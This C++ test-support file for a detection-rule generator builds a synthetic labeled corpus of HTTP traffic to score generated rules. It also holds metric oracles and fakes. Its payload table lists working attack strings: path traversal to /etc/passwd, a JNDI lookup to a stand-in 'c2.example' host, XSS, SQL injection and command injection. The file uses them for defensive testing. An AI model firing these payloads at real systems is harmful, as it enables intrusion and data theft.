#include "support.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <fstream>
#include <regex>
#include <sstream>
#include <stdexcept>

#include <unistd.h>

#include "rulegen/hashing.hpp"
#include "rulegen/rule.hpp"

namespace fs = std::filesystem;
using namespace rulegen;

namespace testsupport {

fs::path fixture(std::string_view relative) {
  return fs::path(RULEGEN_FIXTURE_DIR) / std::string(relative);
}

std::string read_fixture(std::string_view relative) {
  std::ifstream in(fixture(relative), std::ios::binary);
  if (!in) throw std::runtime_error("missing fixture " + std::string(relative));
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

CveRecord fixture_record(std::string_view template_file) {
  return make_record(parse_template(read_fixture(std::string("templates/") + std::string(template_file))),
                     Timestamp{});
}

fs::path scratch_dir(std::string_view tag) {
  static std::mutex mu;
  static int counter = 0;
  std::lock_guard lock(mu);
  const auto dir = fs::temp_directory_path() /
                   ("rulegen-test-" + std::to_string(::getpid()) + "-" + std::string(tag) + "-" +
                    std::to_string(counter++));
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

// ------------------------------------------------------------------ naive evaluator

namespace {

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

std::string naive_decode(const std::string& s) {
  std::string out;
  std::size_t i = 0;
  while (i < s.size()) {
    if (s[i] == '%' && s.size() - i >= 3 && hex_value(s[i + 1]) >= 0 && hex_value(s[i + 2]) >= 0) {
      out.push_back(static_cast<char>(hex_value(s[i + 1]) * 16 + hex_value(s[i + 2])));
      i += 3;
    } else {
      out.push_back(s[i]);
      i += 1;
    }
  }
  return out;
}

std::string lowered(std::string s) {
  for (auto& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string naive_field(const std::string& var, const NaiveEvent& e) {
  if (var == "method") return e.method;
  if (var == "path") return e.path;
  if (var == "path_decoded") return naive_decode(e.path);
  if (var == "query_string") return e.query;
  if (var == "query_string_decoded") return naive_decode(e.query);
  if (var == "body") return e.body;
  if (var.rfind("header:", 0) == 0) {
    const std::string want = var.substr(7);
    std::string joined;
    bool any = false;
    for (const auto& [k, v] : e.headers) {
      if (lowered(k) != want) continue;
      if (any) joined += ", ";
      joined += v;
      any = true;
    }
    return joined;
  }
  throw std::runtime_error("naive evaluator: unknown var " + var);
}

bool naive_test(const std::string& cmp, const std::string& value, const std::string& constant) {
  if (cmp == "equals") return value == constant;
  if (cmp == "contains") return value.find(constant) != std::string::npos;
  if (cmp == "starts_with")
    return value.size() >= constant.size() && value.compare(0, constant.size(), constant) == 0;
  if (cmp == "ends_with")
    return value.size() >= constant.size() &&
           value.compare(value.size() - constant.size(), constant.size(), constant) == 0;
  if (cmp == "equals_ignore_case") return lowered(value) == lowered(constant);
  if (cmp == "contains_ignore_case") return lowered(value).find(lowered(constant)) != std::string::npos;
  if (cmp == "regex") {
    std::string pattern = constant;
    auto flags = std::regex::ECMAScript;
    if (pattern.rfind("(?i)", 0) == 0) {
      pattern = pattern.substr(4);
      flags |= std::regex::icase;
    }
    return std::regex_search(value, std::regex(pattern, flags));
  }
  throw std::runtime_error("naive evaluator: unknown comparison " + cmp);
}

}  // namespace

bool naive_evaluate(const nlohmann::json& rule, const NaiveEvent& event) {
  const bool conj = rule.at("conditions_match").get<std::string>() == "and";
  bool result = conj;
  for (const auto& c : rule.at("conditions")) {
    const bool hit = naive_test(c.at("comparison").get<std::string>(),
                                naive_field(c.at("var").get<std::string>(), event),
                                c.at("constant").get<std::string>());
    if (conj) {
      result = result && hit;
    } else {
      result = result || hit;
    }
  }
  return result;
}

// ------------------------------------------------------------------ metric oracles

double brute_force_auroc(const std::vector<ScoredOutcome>& samples) {
  double total = 0.0;
  double pairs = 0.0;
  for (const auto& a : samples) {
    if (!a.correct) continue;
    for (const auto& b : samples) {
      if (b.correct) continue;
      pairs += 1.0;
      if (a.confidence > b.confidence) {
        total += 1.0;
      } else if (a.confidence == b.confidence) {
        total += 0.5;
      }
    }
  }
  return total / pairs;
}

double rank_sum_auroc(const std::vector<ScoredOutcome>& samples) {
  // Mann-Whitney U from mid-ranks.
  std::vector<std::pair<double, bool>> v;
  for (const auto& s : samples) v.emplace_back(s.confidence, s.correct);
  std::sort(v.begin(), v.end(), [](const auto& a, const auto& b) { return a.first < b.first; });
  double rank_sum = 0.0;
  double n_pos = 0.0;
  std::size_t i = 0;
  while (i < v.size()) {
    std::size_t j = i;
    while (j < v.size() && v[j].first == v[i].first) ++j;
    const double mid = (static_cast<double>(i + 1) + static_cast<double>(j)) / 2.0;
    for (std::size_t k = i; k < j; ++k) {
      if (v[k].second) {
        rank_sum += mid;
        n_pos += 1.0;
      }
    }
    i = j;
  }
  const double n_neg = static_cast<double>(v.size()) - n_pos;
  return (rank_sum - n_pos * (n_pos + 1.0) / 2.0) / (n_pos * n_neg);
}

std::vector<BruteBin> brute_force_bins(const std::vector<ScoredOutcome>& samples,
                                       std::size_t bins) {
  std::vector<BruteBin> out(bins);
  const double width = static_cast<double>(bins);
  for (std::size_t b = 0; b < bins; ++b) {
    const double lo = static_cast<double>(b) / width;
    const double hi = static_cast<double>(b + 1) / width;
    double conf = 0.0;
    double hits = 0.0;
    for (const auto& s : samples) {
      const bool inside = b == 0 ? (s.confidence >= 0.0 && s.confidence <= hi)
                                 : (s.confidence > lo && s.confidence <= hi);
      if (!inside) continue;
      ++out[b].count;
      conf += s.confidence;
      hits += s.correct ? 1.0 : 0.0;
    }
    if (out[b].count) {
      out[b].mean_confidence = conf / static_cast<double>(out[b].count);
      out[b].accuracy = hits / static_cast<double>(out[b].count);
    }
  }
  return out;
}

double brute_force_ece(const std::vector<ScoredOutcome>& samples, std::size_t bins) {
  double ece = 0.0;
  for (const auto& b : brute_force_bins(samples, bins))
    ece += static_cast<double>(b.count) / static_cast<double>(samples.size()) *
           std::fabs(b.accuracy - b.mean_confidence);
  return ece;
}

// ------------------------------------------------------------------ fakes

Clock::time_point FakeClock::now() {
  std::lock_guard lock(mu_);
  return now_;
}

void FakeClock::sleep_for(std::chrono::milliseconds d) {
  std::lock_guard lock(mu_);
  sleeps_.push_back(d);
  now_ += d;
}

std::vector<std::chrono::milliseconds> FakeClock::sleeps() const {
  std::lock_guard lock(mu_);
  return sleeps_;
}

std::string ScriptedBackend::complete(const GenerationRequest& request) {
  std::lock_guard lock(mu_);
  seen_.push_back(request);
  const auto i = std::min(next_, replies_.size() - 1);
  ++next_;
  return replies_[i];
}

std::vector<GenerationRequest> ScriptedBackend::requests() const {
  std::lock_guard lock(mu_);
  return seen_;
}

std::string RecordingBackend::complete(const GenerationRequest& request) {
  {
    std::lock_guard lock(mu_);
    seen_.push_back(request);
  }
  return inner_->complete(request);
}

std::vector<GenerationRequest> RecordingBackend::requests() const {
  std::lock_guard lock(mu_);
  return seen_;
}

// ------------------------------------------------------------------ labeled world

namespace {

struct Category {
  std::string_view weakness;
  std::string_view param;
  std::vector<std::string> payloads;
};

const std::vector<Category>& categories() {
  static const std::vector<Category> cats = {
      {"a path traversal that reads arbitrary files", "file",
       {"../../../../etc/passwd", "../../../../../windows/win.ini"}},
      {"a JNDI lookup injection that leads to remote code execution", "name",
       {"${jndi:ldap://c2.example/a}", "${JNDI:rmi://c2.example/x}"}},
      {"reflected cross-site scripting", "redirect",
       {"<script>alert(1)</script>", "\"><SCRIPT>alert(document.cookie)</SCRIPT>"}},
      {"SQL injection", "id", {"1' union select user,pass from accounts-- -", "1' UNION/**/SELECT null,version()-- -"}},
      {"OS command injection", "host", {"127.0.0.1;id", "8.8.8.8|cat /etc/hosts"}},
      {"blind time-based SQL injection", "sort", {"1' and sleep(5)-- -", "name' or SLEEP(10)#"}},
  };
  return cats;
}

constexpr std::string_view kVendors[] = {"Acme", "Globex", "Initech", "Umbrella",
                                         "Hooli", "Vandelay", "Soylent", "Tyrell"};
const std::vector<std::string> kBenignValues = {
    "summary", "report 2024", "O'Brien", "quarterly-results", "home", "d'Angelo",
    "en-US", "page 2", "it's fine", "dashboard"};

std::string encode(std::string_view value) {
  static const char* hex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : value) {
    if (std::isalnum(c) || c == '-' || c == '.' || c == '_' || c == '~' || c == '/') {
      out.push_back(static_cast<char>(c));
    } else {
      out.push_back('%');
      out.push_back(hex[c >> 4]);
      out.push_back(hex[c & 15]);
    }
  }
  return out;
}

HttpEvent make_event(const std::string& path, const std::string& query, const std::string& ua,
                     const std::string& ip, int minute) {
  HeaderMap h;
  h.add("Host", "app.example.com");
  h.add("User-Agent", ua);
  using namespace std::chrono;
  const Timestamp ts = sys_days{year{2024} / 3 / 1} + minutes{minute};
  return HttpEvent("GET", path, query, std::move(h), "", ip, ts);
}

}  // namespace

LabeledWorld make_labeled_world(std::size_t num_cves, std::uint64_t seed) {
  LabeledWorld w;
  SeededStream rng(mix_seed(seed, std::string_view("labeled-world")));
  auto add = [&](HttpEvent e, std::string exploit) {
    w.corpus.push_back(std::move(e));
    w.exploit_of.push_back(std::move(exploit));
  };
  int minute = 0;
  for (std::size_t k = 0; k < num_cves; ++k) {
    const auto& cat = categories()[k % categories().size()];
    const std::string vendor(kVendors[k % std::size(kVendors)]);
    const std::string ks = std::to_string(k + 1);
    const std::string path = "/" + lowered(vendor) + ks + "/console/handler" + ks + ".do";
    const std::string param(cat.param);

    char id[32];
    std::snprintf(id, sizeof id, "CVE-2024-%05zu", 10000 + k + 1);
    CveRecord r;
    r.cve_id = id;
    r.tmpl.template_id = id;
    r.tmpl.cve_id = id;
    r.tmpl.name = vendor + " Console " + ks;
    r.tmpl.description = "The " + vendor + " Console " + ks + " web interface passes the " +
                         param + " parameter of " + path + " to the backend unchecked, allowing " +
                         std::string(cat.weakness) + ".";
    r.tmpl.severity = Severity::kHigh;
    r.tmpl.raw_requests.push_back("GET " + path + "?" + param + "=" + encode(cat.payloads[0]) +
                                  "&lang=en HTTP/1.1\nHost: target.example\nUser-Agent: Mozilla/5.0\n");
    w.records.push_back(r);

    const std::string net = std::to_string(k + 1);
    // Exploit traffic: 12 malicious sources, some sending twice.
    for (int i = 0; i < 12; ++i) {
      const std::string ip = "45." + net + ".1." + std::to_string(i + 1);
      w.reputation[ip] = Reputation::kMalicious;
      const int repeats = rng.uniform() < 0.3 ? 2 : 1;
      for (int n = 0; n < repeats; ++n) {
        const auto& payload = cat.payloads[static_cast<std::size_t>(i + n) % cat.payloads.size()];
        const std::string q = (i % 2 == 0)
                                  ? param + "=" + encode(payload) + "&lang=en&r=" + std::to_string(i)
                                  : "lang=de&" + param + "=" + encode(payload);
        add(make_event(path, q, "python-requests/2.31", ip, minute++), r.cve_id);
      }
    }
    // Benign traffic to the vulnerable endpoint.
    for (int j = 0; j < 20; ++j) {
      const std::string ip = "10." + net + ".2." + std::to_string(j + 1);
      w.reputation[ip] = Reputation::kBenign;
      const auto& value = kBenignValues[static_cast<std::size_t>(j) % kBenignValues.size()];
      add(make_event(path, param + "=" + encode(value) + "&lang=en", "Mozilla/5.0", ip, minute++), "");
    }
    // The same payload aimed at an unrelated endpoint.
    const std::string other = "/probe" + ks + "/index.php";
    for (int n = 0; n < 12; ++n) {
      std::string ip;
      if (n < 2) {
        ip = "45." + net + ".9." + std::to_string(n + 1);
        w.reputation[ip] = Reputation::kMalicious;
      } else {
        ip = "185." + net + ".3." + std::to_string(n + 1);
        if (n % 2 == 0) w.reputation[ip] = Reputation::kUnknown;
      }
      add(make_event(other, param + "=" + encode(cat.payloads[0]), "zgrab/0.x", ip, minute++), "");
    }
    // Background browsing.
    for (int n = 0; n < 5; ++n) {
      const std::string ip = "10." + net + ".4." + std::to_string(n + 1);
      w.reputation[ip] = Reputation::kBenign;
      add(make_event(n % 2 ? "/" : "/login", n % 2 ? "" : "next=%2Fhome", "Mozilla/5.0", ip,
                     minute++),
          "");
    }
  }
  return w;
}

RuleVerdict judge_against_corpus(const DetectionRule& rule, const std::string& cve_id,
                                 const LabeledWorld& world) {
  RuleVerdict v;
  for (std::size_t i = 0; i < world.corpus.size(); ++i) {
    const bool hit = evaluate(rule, world.corpus[i]);
    const bool exploit = world.exploit_of[i] == cve_id;
    if (hit && !exploit) ++v.false_positives;
    if (!hit && exploit) ++v.false_negatives;
  }
  return v;
}

BatchResult run_batch(const LabeledWorld& world, const BatchOptions& options) {
  GatewayOptions gopts;
  gopts.run_budget = 100000;
  Gateway gateway(std::make_shared<MockBackend>(options.mock), gopts);
  ConfidenceJudge judge(gateway);
  PipelineOptions popts;
  popts.confidence_stage = options.confidence_stage;
  popts.traffic_stage = false;
  popts.detailed_synthetic_feedback = options.detailed_synthetic_feedback;
  popts.thresholds = options.thresholds;
  ValidationPipeline pipeline(gateway, &judge, popts);

  BatchResult out;
  for (const auto& record : world.records) {
    gateway.begin_run();
    BatchCve c;
    c.cve_id = record.cve_id;
    c.outcome = generate_for_cve(record, options.generation, gateway, pipeline);
    if (const auto* best = c.outcome.best()) {
      c.accepted = best->rule;
      c.verdict = judge_against_corpus(*best->rule, record.cve_id, world);
      ++out.accepted;
      out.misclassifying += c.verdict.misclassifies();
      out.true_positive += c.verdict.true_positive();
    }
    out.cves.push_back(std::move(c));
  }
  out.gateway_calls = gateway.total_calls();
  return out;
}

std::vector<SweepPoint> confidence_sweep(const LabeledWorld& world, const BatchResult& batch,
                                         const MockBehavior& mock,
                                         const std::vector<double>& thresholds) {
  GatewayOptions gopts;
  gopts.run_budget = 100000;
  Gateway gateway(std::make_shared<MockBackend>(mock), gopts);
  ConfidenceJudge judge(gateway);
  std::map<std::string, const CveRecord*> by_id;
  for (const auto& r : world.records) by_id[r.cve_id] = &r;

  struct Scored {
    double confidence;
    bool ip_failed;
  };
  std::vector<Scored> scored;
  for (const auto& cve : batch.cves) {
    for (const auto& cand : cve.outcome.candidates) {
      if (cand.status != CandidateStatus::kPassed || !cand.rule) continue;
      const auto report = judge.judge_rule(*by_id.at(cve.cve_id), *cand.rule);
      const auto ip = run_ip_validation(*cand.rule, world.corpus, world.reputation, {});
      scored.push_back({report.confidence, !ip.skipped_reason && !ip.passed});
    }
  }
  std::vector<SweepPoint> out;
  for (double t : thresholds) {
    SweepPoint p;
    p.threshold = t;
    for (const auto& s : scored) {
      if (s.confidence < t) continue;
      ++p.surviving;
      p.ip_failures += s.ip_failed;
    }
    out.push_back(p);
  }
  return out;
}

}  // namespace testsupport
